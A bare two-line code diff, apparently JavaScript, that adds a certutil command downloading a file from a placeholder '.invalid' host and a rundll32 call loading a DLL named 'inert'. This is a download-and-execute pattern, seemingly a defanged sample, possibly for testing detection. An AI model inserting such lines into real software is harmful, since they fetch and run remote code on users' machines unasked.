@@ -1,0 +1,2 @@
+execSync('certutil -urlcache -f http://files.invalid/x x');
+spawn("rundll32", ["inert.dll,main"]);
